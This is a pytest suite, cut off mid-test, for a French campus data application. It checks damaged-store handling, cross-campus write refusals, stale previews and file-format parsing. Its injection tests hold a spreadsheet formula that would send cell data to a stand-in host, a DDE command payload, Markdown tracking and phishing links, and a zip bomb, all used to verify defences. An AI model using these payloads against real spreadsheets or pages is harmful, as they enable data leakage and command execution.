"""Ways to lose or steal data: a damaged store never gets the demo, a director cannot take over another campus's
rows, a stale preview never overwrites, disk and value failures say so in French, nothing fetched or run from text."""
from __future__ import annotations

import csv
import io
import os
import resource
import shutil
import signal
import subprocess
import sys
import zipfile

import openpyxl
import pandas as pd
import pytest

from cmq.core import auth, demo, fmt, ingest, queries
from cmq.core.filters import Filters
from cmq.core.store import Store, StoreDamaged, StoreError

from conftest import ADMIN, ROOT, admin_store, app_test, cli, frame, snapshot, state_of

PASSWORD = "un-vrai-mot-de-passe-2026"


@pytest.fixture
def real_store(tmp_path) -> Store:
    """A real store made by `cmq init` (its administrator `admin`, a real password), holding one imported file."""
    root = tmp_path / "real"
    r = cli("init", "--admin", "admin", data_dir=root, stdin=PASSWORD + "\n")
    assert r.returncode == 0, r.stderr
    s = Store(root)
    rows = "Code campus;Nom;Région;Filière;Label\nXYZ;Campus réel;Bourgogne-Franche-Comté;Tourisme, gastronomie;standard\n"
    rep = ingest.import_bytes(s, "campuses", rows.encode(), "campus.csv", user="admin")
    assert rep.status == "committed", rep.errors
    return s


def _no_leak(result, root) -> None:
    assert result.returncode == 1
    assert "Traceback" not in result.stderr and str(root) not in result.stderr
    assert "endommagé" in result.stderr and "python -m cmq check" in result.stderr


def test_a_lost_manifest_is_a_damaged_store_not_a_new_demo(real_store):
    root = real_store.root
    (root / "manifest.json").rename(root.parent / "manifest.json.moved")
    before = snapshot(root)
    for args in (("sql", "select count(*) n from campuses"), ("batches",), ("demo",), ("demo", "--force"),
                 ("user", "list")):
        _no_leak(cli(*args, data_dir=root), root)
    assert snapshot(root) == before, "nothing written: no demo, no batch numbered from 1 again"
    account = real_store.accounts()["admin"]
    assert not account["demo"] and auth.password_matches(account, PASSWORD)
    assert not auth.password_matches(account, "admin-demo-2018")
    # the login page says it in French and lists no demo account
    at = app_test(None)
    os.environ["CMQ_DATA_DIR"] = str(root)
    try:
        at.run()
    finally:
        del os.environ["CMQ_DATA_DIR"]
    assert not at.exception
    assert any("endommagé" in e.value for e in at.error) and not at.table
    # cmq check reports it and --repair restores the last good manifest
    check = cli("check", data_dir=root)
    assert check.returncode == 1 and "manifest.json est absent" in check.stdout and "--repair" in check.stdout
    repaired = cli("check", "--repair", data_dir=root)
    assert repaired.returncode == 0, repaired.stdout + repaired.stderr
    assert cli("sql", "select name from campuses", data_dir=root).stdout.splitlines() == ["name", "Campus réel"]
    assert cli("check", data_dir=root).stdout.startswith("Magasin sain")


@pytest.mark.parametrize("name, content", [("manifest.json", b""), ("manifest.json", b'{"version": 3, "fi'),
                                           ("accounts.json", b""), ("accounts.json", b"[1, 2")])
def test_a_truncated_manifest_or_accounts_file_says_so_in_french(real_store, name, content):
    root = real_store.root
    (root / name).write_bytes(content)
    before = snapshot(root)
    _no_leak(cli("sql", "select 1", data_dir=root), root)
    rows = "Code campus;Nom;Région;Filière;Label\nXYZ;Autre;Bourgogne-Franche-Comté;Tourisme, gastronomie;standard\n"
    rep = ingest.import_bytes(real_store, "campuses", rows.encode(), "c.csv", user="admin")
    assert rep.status == "rejected" and "endommagé" in rep.errors[-1]["message"]
    assert snapshot(root) == before
    assert cli("check", "--repair", data_dir=root).returncode == 0
    assert auth.password_matches(real_store.accounts()["admin"], PASSWORD)


DAMAGES = {  # what can happen to a data file on disk
    "truncated": lambda p: p.write_bytes(p.read_bytes()[:50]),
    "one byte flipped": lambda p: p.write_bytes((b := bytearray(p.read_bytes())) and bytes(
        b[:len(b) // 2] + bytes([b[len(b) // 2] ^ 0xFF]) + b[len(b) // 2 + 1:])),
    "deleted": lambda p: p.unlink(),
}


@pytest.mark.parametrize("damage", DAMAGES)
def test_a_damaged_data_file_is_named_and_the_pages_serve_the_rest(data_dir, store_copy, damage):
    """The reach file of the demo damaged on disk (and the version's catalogue not yet made, as after a restart):
    `cmq check` names the file and its batch, exit 1; `cmq sql` and the pages answer from the sound files and say
    what they leave out; no import is written on top of it."""
    m = store_copy.manifest()
    rel = m["files"]["reach"][0]
    shutil.rmtree(store_copy.root / "_catalogue", ignore_errors=True)
    DAMAGES[damage](store_copy.root / rel)
    r = cli("check", data_dir=data_dir)
    assert r.returncode == 1 and rel in r.stdout and "lot " in r.stdout and "Traceback" not in r.stderr
    r = cli("sql", "select count(*) as n from reach", data_dir=data_dir)
    assert r.returncode == 0 and r.stdout.split() == ["n", "0"], "the reach rows are left out, nothing else"
    assert rel in r.stderr and "manquent" in r.stderr and "Traceback" not in r.stderr
    assert cli("sql", "select count(*) as n from campuses", data_dir=data_dir).stdout.split() == ["n", "6"]
    at = app_test("comite").run()
    shown = at.warning[0].value.replace("\\", "")  # as rendered (the Markdown escapes removed)
    assert not at.exception and rel in shown and "manquent aux pages" in shown
    assert at.title[0].value == "Vue régionale des campus" and at.metric, "the page still shows what it can"
    before = snapshot(store_copy.root)
    r = cli("import", "reach", str(ROOT / "data/demo/reach.csv"), "--user", "admin", data_dir=data_dir)
    assert r.returncode == 1 and "endommagé" in r.stderr + r.stdout and snapshot(store_copy.root) == before


def test_a_damaged_snapshot_costs_the_pages_nothing(store_copy):
    """A table's current-rows file is a copy: damaged, the rows are resolved from its history again."""
    total = int(store_copy.read("select sum(count) from reach").iloc[0, 0])
    store_copy.compact()
    rel = store_copy.manifest()["current"]["reach"]["file"]
    shutil.rmtree(store_copy.root / "_catalogue", ignore_errors=True)
    DAMAGES["one byte flipped"](store_copy.root / rel)
    fresh = Store(store_copy.root)
    assert int(fresh.read("select sum(count) from reach").iloc[0, 0]) == total
    (report,) = fresh.damaged[fresh.version()]
    assert rel in report and "rien ne manque aux pages" in report
    assert not (store_copy.root / "_catalogue").exists() or not list((store_copy.root / "_catalogue").glob("v*.duckdb")), \
        "no catalogue is made from a damaged store"


def test_the_demo_is_never_built_over_an_existing_account(tmp_path):
    s = Store(tmp_path / "s")
    s.put_account(auth.new_account("admin", "admin", password=PASSWORD, national=True))
    with pytest.raises(demo.DemoError, match="existe déjà"):
        demo.build(s)
    assert not s.accounts()["admin"]["demo"] and auth.password_matches(s.accounts()["admin"], PASSWORD)
    assert set(s.accounts()) == {"admin"}
    # and only an empty folder gets the demo
    s2 = Store(tmp_path / "other")
    (s2.root / "notes.txt").write_text("un fichier quelconque")
    with pytest.raises(StoreDamaged):
        demo.open_store(s2.root)
    assert sorted(p.name for p in s2.root.iterdir()) == ["notes.txt"]


# ---------------------------------------------------------------- a director and another campus's rows

TAKEOVERS = {  # table: a line a director of AGT sends about rows of AMF (keys that do not carry the campus)
    "actions": "Code campus;Identifiant action;Intitulé;Statut;Année\nAGT;AMF-A03;Action volée;en_cours;2018\n",
    "objectives": "Code campus;Identifiant objectif;Niveau;Intitulé\nAGT;AMF-S1;strategique;Objectif volé\n",
    "indicators": ("Code campus;Identifiant indicateur;Identifiant objectif;Intitulé;Unité;Sens;Cumulatif\n"
                   "AGT;AMF-I01;AGT-S1;Indicateur volé;nombre;hausse;non\n"),
    "indicator_values": "Code campus;Identifiant indicateur;Année;Valeur\nAGT;AMF-I01;2018;999\n",
    "action_objectives": "Code campus;Identifiant action;Identifiant objectif\nAGT;AMF-A03;AGT-S1\n",
    "reach": "Code campus;Identifiant action;Année;Public;Nombre\nAGT;AMF-A03;2018;lyceens;5\n",
}


def test_a_director_cannot_take_over_another_campus_rows_from_the_command_line(any_store_copy, tmp_path):
    """Every takeover file is rejected by the importer, naming AMF (the import page and the command line call it);
    the command line itself says so and exits 1 (one file: the same importer and door behind it)."""
    before = state_of(any_store_copy)
    for table, text in TAKEOVERS.items():
        rep = ingest.import_bytes(any_store_copy, table, text.encode(), f"{table}.csv", user="directeur-agt")
        assert rep.status == "rejected" and any("AMF" in e["message"] for e in rep.errors), table
    f = tmp_path / "reach.csv"
    f.write_text(TAKEOVERS["reach"], encoding="utf-8")
    r = cli("import", "reach", str(f), "--user", "directeur-agt", "--json", store=any_store_copy)
    assert r.returncode == 1, r.stdout
    out = pd.read_json(io.StringIO(r.stdout), typ="series")
    assert out["status"] == "rejected" and any("AMF" in e["message"] for e in out["errors"])
    assert state_of(any_store_copy) == before


@pytest.mark.parametrize("table", ["actions", "objectives", "indicators", "indicator_values", "action_objectives"])
def test_the_store_refuses_a_takeover_whatever_the_caller(any_store_copy, table):
    """A script that skips the importer's checks and calls the write door directly is refused too (both backends)."""
    store_copy = any_store_copy
    rep = ingest.read(table, TAKEOVERS[table].encode())
    rows = rep.rows.where(rep.rows.notna(), None)
    before = state_of(store_copy)
    with pytest.raises(StoreError, match="AMF"):
        store_copy.commit(table, rows, user="directeur-agt")
    assert state_of(store_copy) == before
    store_copy.commit(table, rows, user=ADMIN)  # an administrator may


def test_a_director_cannot_take_over_an_action_from_the_import_page(data_dir):
    before = snapshot(data_dir)
    at = app_test("directeur-agt")
    at.switch_page("cmq/app/pages/import.py").run()
    at.selectbox(key="imp_table").set_value("actions").run()
    at.file_uploader(key="imp_file_0").upload("actions.csv", TAKEOVERS["actions"].encode(), "text/csv").run()
    assert not at.exception
    errors = list(frame(at, "Message")["Message"])
    assert any("appartient déjà au campus AMF" in m for m in errors)
    assert not [b for b in at.button if b.key == "imp_commit"]
    assert snapshot(data_dir) == before


# ---------------------------------------------------------------- a stale preview

def test_a_preview_computed_before_another_commit_is_not_committed(store_copy):
    s = store_copy
    s.put_account(auth.new_account("autre", "admin", national=True))

    def file(v):
        return f"Code campus;Identifiant indicateur;Année;Valeur\nAGT;AGT-I01;2019;{v}\n".encode()

    ingest.import_bytes(s, "indicator_values", file(88), "a.csv", user=ADMIN)
    preview = ingest.check(s, "indicator_values", file(95), "b.csv")
    assert preview.status == "valid" and preview.changes["old"].tolist() == [88]
    ingest.import_bytes(s, "indicator_values", file(90), "c.csv", user="autre")  # someone else, meanwhile
    rep = ingest.import_bytes(s, "indicator_values", file(95), "b.csv", user=ADMIN, preview=preview)
    assert rep.status == "rejected" and rep.stale and "ont changé depuis l'aperçu" in rep.errors[-1]["message"]
    assert rep.changes["old"].tolist() == [90], "the new diff is there to show"
    value = s.read("select value from indicator_values where indicator_id = 'AGT-I01' and year = 2019")["value"]
    assert value.tolist() == [90.0]
    # a commit elsewhere that leaves this file's outcome as shown does not block it
    fresh = ingest.check(s, "indicator_values", file(95), "b.csv")
    ingest.import_bytes(s, "reach", b"Code campus;Identifiant action;Ann\xc3\xa9e;Public;Nombre\nAGT;AGT-A01;2019;lyceens;3\n",
                        "r.csv", user="autre")
    assert ingest.import_bytes(s, "indicator_values", file(95), "b.csv", user=ADMIN, preview=fresh).status == "committed"


def test_the_import_page_shows_the_new_diff_instead_of_committing_a_stale_preview(data_dir, store_copy):
    def file(v):
        return f"Code campus;Identifiant indicateur;Année;Valeur\nAGT;AGT-I01;2018;{v}\n".encode()

    at = app_test()
    at.switch_page("cmq/app/pages/import.py").run()
    at.file_uploader(key="imp_file_0").upload("v.csv", file(95), "text/csv").run()
    assert [b for b in at.button if b.key == "imp_commit"]
    ingest.import_bytes(store_copy, "indicator_values", file(90), "autre.csv", user=ADMIN)  # another session commits
    at.button(key="imp_commit").click().run()
    assert not at.exception
    assert any("ont changé depuis l'aperçu" in w.value for w in at.warning)
    changes = [df.value for df in at.dataframe if "Ancienne valeur" in df.value.columns]
    assert changes and changes[0]["Ancienne valeur"].tolist() == ["90"], "the diff against the new value"
    got = store_copy.read("select value from indicator_values where indicator_id = 'AGT-I01' and year = 2018")
    assert got["value"].tolist() == [90.0]


# ---------------------------------------------------------------- disk and values that do not fit

def test_a_full_disk_during_a_commit_says_so_and_changes_nothing(data_dir, tmp_path):
    f = tmp_path / "v.csv"
    f.write_text("Code campus;Identifiant indicateur;Année;Valeur\nAGT;AGT-I01;2020;5\n", encoding="utf-8")
    before = snapshot(data_dir)

    def small_disk():  # writing past 2 kB fails as a full disk would (EFBIG instead of ENOSPC)
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        resource.setrlimit(resource.RLIMIT_FSIZE, (2048, 2048))

    r = subprocess.run([sys.executable, "-m", "cmq", "import", "indicator_values", str(f), "--user", ADMIN], cwd=ROOT,
                       env=dict(os.environ, CMQ_DATA_DIR=str(data_dir)), capture_output=True, text=True,
                       preexec_fn=small_disk, timeout=300)
    assert r.returncode == 1 and "Traceback" not in r.stderr and str(data_dir) not in r.stdout + r.stderr
    assert "L'enregistrement a échoué" in r.stdout and "rien n'a été enregistré" in r.stdout
    assert snapshot(data_dir) == before


def test_a_count_beyond_what_the_store_holds_is_a_line_error(store_copy):
    data = b"Code campus;Identifiant action;Ann\xc3\xa9e;Public;Nombre\nAGT;AGT-A01;2018;lyceens;99999999999999999999999\n"
    rep = ingest.import_bytes(store_copy, "reach", data, "r.csv", user=ADMIN)
    assert rep.status == "rejected" and (rep.errors[0]["line"], rep.errors[0]["column"]) == (2, "Nombre")
    assert "trop grand" in rep.errors[0]["message"]


def test_a_malformed_link_parameter_is_ignored_with_a_notice(demo_root, monkeypatch):
    monkeypatch.setenv("CMQ_DATA_DIR", str(demo_root))
    for params in ({"annee": "²"}, {"annee": "abc", "campus": "ZZZ"}):
        at = app_test()
        at.query_params.update(params)
        at.switch_page("cmq/app/pages/reach.py").run()
        assert not at.exception
        assert any("ignoré" in i.value for i in at.info)
        assert at.selectbox(key="flt_year").value == 2018
    # values longer than any real one (5 000 digits once crashed the page on Python's integer-string limit)
    for params in ({"annee": "9" * 5000}, {"campus": "A" * 5000, "filiere": "x" * 5000}):
        at = app_test()
        at.query_params.update(params)
        at.switch_page("cmq/app/pages/reach.py").run()
        assert not at.exception and at.selectbox(key="flt_year").value == 2018
        assert all(len(i.value) < 2000 for i in at.info)


# ---------------------------------------------------------------- text that a spreadsheet, Markdown or plotly would run

def _import(store, table, text: str):
    rep = ingest.import_bytes(store, table, text.encode(), f"{table}.csv", user=ADMIN)
    assert rep.status == "committed", rep.errors
    return rep


def test_templates_never_write_an_imported_formula(store_copy):
    from cmq.outputs import templates

    formula = '=HYPERLINK("http://exemple.invalid","clic")'
    _import(store_copy, "campuses", "Code campus;Nom;Région;Filière;Label\n"
                                    "NEW;Nouveau;Bourgogne-Franche-Comté;Tourisme, gastronomie;standard\n")
    _import(store_copy, "actions", "Code campus;Identifiant action;Intitulé;Statut;Année;Description\n"
                                   f'NEW;NEW-A01;Titre;terminee;2018;"{formula.replace(chr(34), chr(34) * 2)}"\n')
    wb = openpyxl.load_workbook(io.BytesIO(templates.xlsx_bytes(store_copy, "actions", "NEW")))
    cells = [c for row in wb["Données"].iter_rows() for c in row if c.value == formula]
    assert cells and all(c.data_type == "s" for c in cells)
    text = templates.csv_bytes(store_copy, "actions", "NEW")
    cells = [c for row in csv.reader(io.StringIO(text.decode("utf-8-sig")), delimiter=";") for c in row]
    assert "'" + formula in cells and formula not in cells
    # the template goes back in unchanged: the apostrophe is taken off again
    assert ingest.check(store_copy, "actions", text, "modele.csv").status == "unchanged"


def test_no_generated_workbook_holds_a_formula(store_copy):
    """An indicator titled like a formula, an objective, a campus name: every cell of every sheet of every template
    and every export is text or a number, never a formula (the « Indicateurs » sheet wrote titles as live cells)."""
    from cmq.core import schema
    from cmq.outputs import iptt, templates

    formula = '=HYPERLINK("http://127.0.0.1:9/?d="&A2,"Aide")'
    quoted = formula.replace('"', '""')
    _import(store_copy, "indicators", "Identifiant indicateur;Code campus;Identifiant objectif;Intitulé;Unité;Sens;"
                                      f'Cumulatif\nAGT-I01;AGT;AGT-S1-O1-R1;"{quoted}";nombre;hausse;non\n')
    books = {f"modèle {t}": templates.xlsx_bytes(store_copy, t, "AGT") for t in schema.TABLES}
    books["suivi"] = iptt.workbook(store_copy, "region", 2018)
    seen = 0
    for name, data in books.items():
        wb = openpyxl.load_workbook(io.BytesIO(data))
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (name, ws.title, cell.coordinate, cell.value)
                    seen += cell.value == formula
    assert seen >= 2  # the title is there, as the words it is (template's « Indicateurs » sheet, tracking table)


def test_the_pptx_chart_workbooks_hold_no_formula(store_copy):
    from cmq.outputs import pack

    funder = "=cmd|' /C calc'!A0"
    _import(store_copy, "funding", "Code campus;Financeur;Année;Programme;Type de financeur;Montant (€);Nature;Statut\n"
                                   f"AGT;{funder};2018;P;autre;1000;financier;acquis\n")
    data = pack.render(pack.build_from_store(store_copy, "AGT", 2018), "pptx")
    outer = zipfile.ZipFile(io.BytesIO(data))
    embedded = [n for n in outer.namelist() if n.endswith(".xlsx")]
    found = False
    for name in embedded:
        inner = zipfile.ZipFile(io.BytesIO(outer.read(name)))
        sheet = inner.read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in sheet and "<f " not in sheet, name
        strings = inner.read("xl/sharedStrings.xml").decode() if "xl/sharedStrings.xml" in inner.namelist() else ""
        found |= "cmd|" in strings
    assert found, "the funder is in a chart's workbook, as text"


def test_imported_text_is_shown_as_typed_not_as_markup(store_copy, monkeypatch):
    from cmq.outputs.registry import FIGURES

    monkeypatch.setenv("CMQ_DATA_DIR", str(store_copy.root))
    name = "![t](http://127.0.0.1:9/track.png) <b>gras</b>"
    _import(store_copy, "campuses", f"Code campus;Nom;Région;Filière;Label\nAGT;{name};Bourgogne-Franche-Comté;"
                                    "Tourisme, gastronomie;standard\n")
    at = app_test()
    at.query_params["campus"] = "AGT"
    at.switch_page("cmq/app/pages/campus.py").run()
    assert not at.exception
    title = at.title[0].value
    assert fmt.md(name) in title and "![" not in title.replace("\\![", "")
    # plotly hovers and labels: an action title with a link is drawn as text
    link = '<a href="http://127.0.0.1:9/">lien</a>'
    _import(store_copy, "actions", f"Code campus;Identifiant action;Intitulé;Statut;Date de début;Année\n"
                                   f"AGT;AGT-A01;{link};terminee;01/02/2018;2018\n")
    spec = FIGURES["calendrier-des-actions"]
    ctx = Filters(year=2018, campuses=("AGT",), campus="AGT")
    rows = queries.run(spec.query, store=store_copy, **spec.params(ctx))
    fig = spec.chart(rows, ctx)
    shown = str(fig.to_plotly_json())
    assert "<a href" not in shown and "&lt;a href" in shown
    # a funder without amount, named in a caption of « Vue régionale » shown to the whole committee
    funder = "[Cliquez ici](http://127.0.0.1:9/phish) ![x](http://127.0.0.1:9/t.png)"
    _import(store_copy, "funding", "Code campus;Financeur;Année;Programme;Type de financeur;Montant (€);Nature;Statut\n"
                                   f"AGT;{funder};2018;Essai;etat;;poste;acquis\n")
    at = app_test().run()
    captions = [c.value for c in at.caption if "Montant non renseigné" in c.value]
    assert captions and fmt.md(funder) in captions[0] and "](http" not in captions[0].replace("\\]", "")


# ---------------------------------------------------------------- formats Excel and the world send


def _xlsx(rows, formats=None, hidden_first=False) -> bytes:
    wb = openpyxl.Workbook()
    ws = wb.active
    if hidden_first:
        ws.title = "Cachée"
        ws.append(["rien"])
        ws.sheet_state = "hidden"
        ws = wb.create_sheet("Données")
    for r in rows:
        ws.append(r)
    for ref, number_format in (formats or {}).items():
        ws[ref].number_format = number_format
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def test_an_excel_formula_never_computed_is_an_error_not_an_empty_cell(demo_store):
    data = _xlsx([["Code campus", "Identifiant indicateur", "Année", "Valeur"], ["AGT", "AGT-I01", 2018, "=2+3"]])
    rep = ingest.check(demo_store, "indicator_values", data, "v.xlsx")
    assert rep.status == "rejected"
    assert (rep.errors[0]["line"], rep.errors[0]["column"]) == (2, "Valeur") and "formule" in rep.errors[0]["message"]


def test_a_percent_formatted_cell_is_read_as_excel_shows_it(demo_store):
    data = _xlsx([["Code campus", "Identifiant indicateur", "Année", "Valeur"], ["AGT", "AGT-I29", 2019, 0.45]],
                 {"D2": "0%"})
    rep = ingest.check(demo_store, "indicator_values", data, "v.xlsx")
    assert rep.errors == [] and rep.rows["value"].tolist() == [45.0]


def test_the_first_visible_sheet_is_read(demo_store):
    data = _xlsx([["Code campus", "Identifiant indicateur", "Année", "Valeur"], ["AGT", "AGT-I01", 2019, 7]],
                 hidden_first=True)
    rep = ingest.check(demo_store, "indicator_values", data, "v.xlsx")
    assert rep.errors == [] and rep.rows["value"].tolist() == [7.0]
    assert ingest.sheet_names(data) == ["Données"]


def test_an_xlsx_zip_bomb_is_refused_before_parsing_and_outside_the_lock(store_copy):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("xl/worksheets/sheet1.xml", b" " * (ingest.XLSX_UNZIPPED_MAX + 1))
    data = buf.getvalue()
    assert len(data) < 2 * 1024 * 1024
    store = Store(store_copy.root, lock_timeout=0)  # taking the lock now would raise: refused without it
    holder = subprocess.Popen([sys.executable, "-c", "import sys, time; from filelock import FileLock; "
                               "l = FileLock(sys.argv[1]); l.acquire(); print('held', flush=True); time.sleep(60)",
                               str(store_copy.root / ".lock")], stdout=subprocess.PIPE, text=True)
    try:
        assert holder.stdout.readline().strip() == "held"
        rep = ingest.import_bytes(store, "indicator_values", data, "bombe.xlsx", user=ADMIN)
    finally:
        holder.kill()
    assert rep.status == "rejected" and "se décompresse en plus de" in rep.errors[0]["message"]


HEAD = "Code campus;Identifiant indicateur;Année;Valeur;Commentaire"


def _check(store, text, encoding="utf-8"):
    return ingest.check(store, "indicator_values", text.encode(encoding) if isinstance(text, str) else text, "v.csv")


def test_an_unterminated_quote_does_not_swallow_the_next_lines(demo_store):
    rep = _check(demo_store, f'{HEAD}\nAGT;AGT-I01;2019;1;"commentaire ouvert\nAGT;AGT-I04;2019;2;\nAGT;AGT-I05;2019;3;\n')
    assert rep.status == "rejected" and "guillemet" in rep.errors[0]["message"] and "Ligne 2" in rep.errors[0]["message"]


def test_an_excel_error_value_is_an_error_on_its_line_not_a_comment(demo_store):
    rep = _check(demo_store, f"{HEAD}\nAGT;AGT-I01;2019;1;\n#N/A;AGT-I04;2019;2;\nAGT;AGT-I05;2019;#DIV/0!;\n")
    got = {(e["line"], e["column"]) for e in rep.errors}
    assert {(3, "Code campus"), (4, "Valeur")} <= got
    assert all("erreur Excel" in e["message"] for e in rep.errors if (e["line"], e["column"]) in got)


def test_mac_roman_is_refused_rather_than_garbled(demo_store):
    rep = _check(demo_store, f"{HEAD}\nAGT;AGT-I01;2019;1;Réunion des équipes à Mâcon\n", "mac_roman")
    assert rep.status == "rejected" and "Mac OS Roman" in rep.errors[0]["message"]


def test_a_dot_between_thousands_is_ambiguous(demo_store):
    rep = _check(demo_store, f"{HEAD}\nAGT;AGT-I01;2019;1.234;\n")
    assert rep.status == "rejected" and "ambigu" in rep.errors[0]["message"] and rep.errors[0]["line"] == 2


def test_decimal_commas_in_a_comma_file_and_extra_cells_are_flagged(demo_store):
    rep = _check(demo_store, "Code campus,Identifiant indicateur,Année,Valeur,Commentaire\nAGT,AGT-I01,2019,3,5,\n")
    assert rep.status == "rejected" and rep.errors[0]["line"] == 2 and "virgule décimale" in rep.errors[0]["message"]
    rep = _check(demo_store, f"{HEAD}\nAGT;AGT-I01;2019;3;ok;en trop\n")
    assert rep.status == "rejected" and "6 cellules" in rep.errors[0]["message"]


def test_smaller_formats(demo_store):
    # Excel's « sep=; » first line
    rep = _check(demo_store, f"sep=;\n{HEAD}\nAGT;AGT-I01;2019;4;\n")
    assert rep.errors == [] and rep.rows["value"].tolist() == [4.0] and rep.lines == [3]
    # a # comment line with commas does not decide the delimiter
    rep = _check(demo_store, f"# notes, remarques, etc.\n{HEAD}\nAGT;AGT-I01;2019;4;\n")
    assert rep.errors == [] and rep.rows["value"].tolist() == [4.0]
    # VRAI / Excel's TRUE for an oui/non indicator
    rep = _check(demo_store, f"{HEAD}\nAGT;AGT-I02;2019;VRAI;\nAGT;AGT-I03;2019;faux;\n")
    assert rep.errors == [] and rep.rows["value"].tolist() == [1.0, 0.0]
    rep = ingest.check(demo_store, "indicator_values", _xlsx([HEAD.split(";"), ["AGT", "AGT-I02", 2019, True]]), "v.xlsx")
    assert rep.errors == [] and rep.rows["value"].tolist() == [1.0]
    # ten thousand stray columns: one warning
    stray = ";".join(f"x{i}" for i in range(10_000))
    rep = _check(demo_store, f"{HEAD};{stray}\nAGT;AGT-I01;2019;4;\n")
    assert len(rep.warnings) == 1 and "10000 colonne(s)" in rep.warnings[0].replace("\u202f", "")
    # a broken workbook, a 200 000-character cell: French only
    broken = _xlsx([HEAD.split(";")]).replace(b"worksheets/sheet1.xml", b"worksheets/sheetX.xml")
    for data in (broken, f"{HEAD}\nAGT;AGT-I01;2019;4;{'x' * 200_000}\n".encode()):
        rep = ingest.check(demo_store, "indicator_values", data, "f")
        message = rep.errors[0]["message"]
        assert rep.status == "rejected" and "field" not in message and "Error" not in message, message


# ---------------------------------------------------------------- the classes, not only the examples
from hypothesis import HealthCheck, given, settings  # noqa: E402
from hypothesis import strategies as st  # noqa: E402

SETTINGS = settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
WORDS = st.lists(st.sampled_from(["réunion", "équipe", "à", "élèves", "façon", "fête", "Mâcon", "forêt", "déjà", "où",
                                  "collège", "lycée", "bilan", "visite", "atelier", "été", "très", "noël"]),
                 min_size=1, max_size=8).map(" ".join)
VALUES = st.lists(st.tuples(st.sampled_from(["AGT-I01", "AGT-I04", "AGT-I05"]), st.integers(2019, 2030)),
                  min_size=1, max_size=6, unique=True)


@SETTINGS
@given(comment=WORDS)
def test_french_text_in_windows_encoding_is_read_and_in_mac_roman_refused(demo_store, comment):
    text = f"{HEAD}\nAGT;AGT-I01;2019;1;{comment}\n"
    rep = _check(demo_store, text, "cp1252")
    assert rep.errors == [] and rep.rows["comment"].tolist() == [comment]
    if any(ch in comment for ch in "éèàçêâ"):
        rep = _check(demo_store, text, "mac_roman")
        assert rep.status == "rejected" and "Mac OS Roman" in rep.errors[0]["message"]


@SETTINGS
@given(n=st.integers(1000, 999_999))
def test_thousands_with_a_dot_are_asked_about_and_with_a_space_read(demo_store, n):
    dotted = f"{n // 1000}.{n % 1000:03d}"
    assert _check(demo_store, f"{HEAD}\nAGT;AGT-I01;2019;{dotted};\n").status == "rejected"
    rep = _check(demo_store, f"{HEAD}\nAGT;AGT-I01;2019;{dotted.replace('.', ' ')};\n")
    assert rep.rows["value"].tolist() == [float(n)]


@SETTINGS
@given(rows=VALUES, cents=st.lists(st.integers(0, 99_999), min_size=6, max_size=6), quote=st.booleans())
def test_decimal_commas_in_a_comma_file_are_read_right_or_refused(demo_store, rows, cents, quote):
    values = [c / 100 for c in cents[:len(rows)]]
    cells = [f'"{v:.2f}"'.replace(".", ",") if quote else f"{v:.2f}".replace(".", ",") for v in values]
    text = "Code campus,Identifiant indicateur,Année,Valeur,Commentaire\n" + "".join(
        f"AGT,{i},{y},{c},\n" for (i, y), c in zip(rows, cells))
    rep = _check(demo_store, text)
    if rep.status != "rejected":
        assert rep.rows["value"].tolist() == values and rep.rows["comment"].isna().all()


@SETTINGS
@given(rows=VALUES, at=st.integers(0, 5), comments=st.lists(WORDS, min_size=6, max_size=6))
def test_a_quote_left_open_never_swallows_lines_in_silence(demo_store, rows, at, comments):
    lines = [f"AGT;{i};{y};{n};{c}" for n, ((i, y), c) in enumerate(zip(rows, comments))]
    k = at % len(lines)
    lines[k] = lines[k].rsplit(";", 1)[0] + ';"' + comments[k]
    rep = _check(demo_store, HEAD + "\n" + "\n".join(lines) + "\n")
    if rep.status != "rejected":  # only possible when the open quote is on the last line: nothing to swallow
        assert len(rep.rows) == len(lines) and rep.rows["value"].tolist() == [float(n) for n in range(len(lines))]


@SETTINGS
@given(rows=VALUES, at=st.integers(0, 5), error=st.sampled_from(sorted(ingest.EXCEL_ERRORS)),
       column=st.integers(0, 3))
def test_an_excel_error_anywhere_is_reported_on_its_line(demo_store, rows, at, error, column):
    lines = [["AGT", i, str(y), "1", ""] for i, y in rows]
    k = at % len(lines)
    lines[k][column] = error
    rep = _check(demo_store, HEAD + "\n" + "\n".join(";".join(r) for r in lines) + "\n")
    assert rep.status == "rejected" and k + 2 in {e["line"] for e in rep.errors}


def test_an_account_that_may_not_write_is_refused_before_its_file_is_read(data_dir, tmp_path):
    """A reader, an unknown name or another campus's director is refused first, even with a file that changes
    nothing (it used to answer « unchanged », exit 0), and even with a file that cannot be read."""
    same = tmp_path / "same.csv"
    same.write_text("Code campus;Identifiant indicateur;Année;Valeur\nAGT;AGT-I01;2018;88\n", encoding="utf-8")
    junk = tmp_path / "junk.csv"
    junk.write_bytes(b"\x00\x01\x02")
    for user, campus, words in (("comite", None, "peut consulter"), ("personne", None, "n'existe pas"),
                                ("directeur-agt", "AMF", "AMF")):
        for f in (same, junk):
            args = ["import", "indicator_values", str(f), "--user", user, "--json"] + (["--campus", campus] if campus else [])
            r = cli(*args, data_dir=data_dir)
            out = pd.read_json(io.StringIO(r.stdout), typ="series")
            assert r.returncode == 1 and out["status"] == "rejected", (user, f.name)
            assert len(out["errors"]) == 1 and words in out["errors"][0]["message"], (user, out["errors"])


# ---------------------------------------------------------------- hygiene of the store's folder and settings


def test_an_address_is_never_made_a_folder(tmp_path, monkeypatch):
    """CMQ_DATA_DIR=postgresql://… once made a folder « postgresql: » holding a store (and was committed): refused."""
    monkeypatch.chdir(tmp_path)
    for where in ("postgresql://postgres@127.0.0.1:5432/cmq", "s3://bucket/store"):
        with pytest.raises(StoreError, match="est une adresse, pas un dossier"):
            Store(where)
        r = cli("sql", "select 1", data_dir=where)
        assert r.returncode == 1 and "est une adresse, pas un dossier" in r.stderr and "Traceback" not in r.stderr
    assert list(tmp_path.iterdir()) == []


def test_the_store_and_its_catalogues_are_their_owners_only(store_copy, tmp_path, monkeypatch):
    s = admin_store(tmp_path / "new")
    s.commit("campuses", pd.DataFrame([{"campus_id": "XYZ", "name": "X", "region": "R", "sector": "S",
                                        "label": "standard"}]), user=ADMIN)
